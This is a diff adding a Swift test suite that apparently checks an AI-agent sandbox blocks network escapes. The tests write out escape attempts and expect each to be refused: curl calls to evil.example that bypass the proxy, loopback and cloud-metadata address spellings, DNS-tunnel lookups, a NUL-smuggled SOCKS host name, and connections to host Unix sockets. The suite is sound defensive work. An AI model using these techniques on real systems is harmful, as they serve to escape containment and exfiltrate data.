@@ -1,0 +1,115 @@
+import BaileyTestSupport
+import Testing
+
+@Suite("No byte leaves except through the gate", .serialized)
+struct NetworkEscapes {
+  let walls: Walls
+  init() throws { walls = try Walls() }
+
+  @Test("A host that no rule allows is refused, and the agent can read why")
+  func refusedHost() throws {
+    let result = try walls.run("curl -sS -m 20 http://evil.example/ ; env -u http_proxy -u HTTP_PROXY curl -sS --noproxy '*' -m 20 http://evil.example/")
+    #expect(result.output.components(of: "nothing-allows") >= 2, "\(result)")
+  }
+
+  @Test("TLS to a host that no rule allows does not connect, proxy variables or not")
+  func refusedTLS() throws {
+    let result = try walls.run("curl -sS -m 20 https://evil.example/ && echo REACHED; curl --noproxy '*' -sS -m 20 https://evil.example/ && echo REACHED; true")
+    #expect(!result.output.contains("REACHED"))
+  }
+
+  @Test(
+    "Every spelling of a host's own address is refused",
+    arguments: [
+      "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "0.0.0.0", "169.254.169.254",
+      "10.0.0.1", "[fd00:ec2::254]", "[64:ff9b::7f00:1]", "192.168.0.1",
+    ])
+  func addressSpellings(address: String) throws {
+    let result = try walls.run("curl -sS -m 10 -x http://127.0.0.1:3128 http://\(address):80/ -o /dev/null -w '%{http_code}'; true")
+    #expect(!result.output.contains("200"), "\(result)")
+  }
+
+  @Test("The host's loopback is not the sandbox's")
+  func hostLoopback() throws {
+    let result = try walls.python(
+      """
+      import socket
+      s = socket.socket(); s.settimeout(3)
+      try:
+          s.connect(('127.0.0.1', 22)); print('REACHED')
+      except OSError as e:
+          print('refused', e.errno)
+      """)
+    #expect(result.output.hasPrefix("refused"), "\(result)")
+  }
+
+  @Test("UDP other than DNS goes nowhere")
+  func datagrams() throws {
+    let result = try walls.python(
+      """
+      import socket
+      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+      s.connect(('203.0.113.7', 443))
+      try:
+          s.send(b'quic'); print('answer', s.recv(10))
+      except OSError as e:
+          print('refused')
+      """)
+    #expect(result.output == "refused\n", "\(result)")
+  }
+
+  @Test("A name is answered inside and asked nowhere")
+  func syntheticNames() throws {
+    let result = try walls.python(
+      """
+      import socket
+      print(socket.gethostbyname('c2VjcmV0.tunnel.evil.example'))
+      """)
+    #expect(result.output.hasPrefix("198.18.") || result.output.hasPrefix("198.19."), "\(result)")
+  }
+
+  @Test("A host name with a NUL in a SOCKS request is refused")
+  func nulInName() throws {
+    let result = try walls.python(
+      """
+      import socket
+      s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(10)
+      s.sendall(b'\\x05\\x01\\x00'); print(s.recv(2).hex())
+      name = b'evil.example\\x00.allowed.example'
+      s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + b'\\x01\\xbb')
+      print('reply', s.recv(10)[1:2].hex())
+      """, ["--allow-host", "allowed.example"])
+    #expect(!result.output.contains("reply 00"), "\(result)")
+  }
+
+  @Test("A host's Unix socket is not reachable, by path or abstract name")
+  func unixSockets() throws {
+    let program = """
+      import socket, sys
+      for name in sys.argv[1:]:
+          s = socket.socket(socket.AF_UNIX)
+          try:
+              s.connect(name if not name.startswith('@') else '\\0' + name[1:]); print('REACHED', name)
+          except OSError as e:
+              print('refused', e.errno)
+      """
+    let path = walls.scratch.path + "/run/bailey/baileyd.sock"
+    let result = try walls.bailey(
+      ["run", "-q", "--", "/usr/bin/python3", "-c", program, path, "/run/dbus/system_bus_socket", "@/tmp/.X11-unix/X0"])
+    #expect(!result.output.contains("REACHED"), "\(result)")
+    #expect(result.output.components(of: "refused") == 3)
+  }
+}
+
+extension String {
+  /// How often a piece occurs.
+  func components(of piece: String) -> Int {
+    var count = 0
+    var rest = self[...]
+    while let range = rest.firstRange(of: piece) {
+      count += 1
+      rest = rest[range.upperBound...]
+    }
+    return count
+  }
+}
